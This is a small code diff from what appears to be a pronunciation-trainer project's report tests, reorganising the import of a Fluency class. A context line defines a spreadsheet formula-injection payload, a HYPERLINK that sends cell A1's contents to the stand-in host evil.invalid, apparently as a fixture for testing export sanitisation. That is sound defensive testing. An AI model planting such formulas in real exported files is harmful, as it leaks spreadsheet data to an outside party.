@@ -20,9 +20,8 @@ from trainer.records.store import Store
 from trainer.reports.names import Names
 from trainer.reports.selection import Selection, conditions
 from trainer.reports.stored import exported
-from trainer.scoring.assessment import Assessment, PhoneScore, WordScore
+from trainer.scoring.assessment import Assessment, Fluency, PhoneScore, WordScore
 from trainer.scoring.content import Content
-from trainer.scoring.fluency import Fluency
 
 LEONOV, STAFFORD = "leonov", "stafford"
 FORMULA = '=HYPERLINK("http://evil.invalid?x="&A1,"Leonov")'
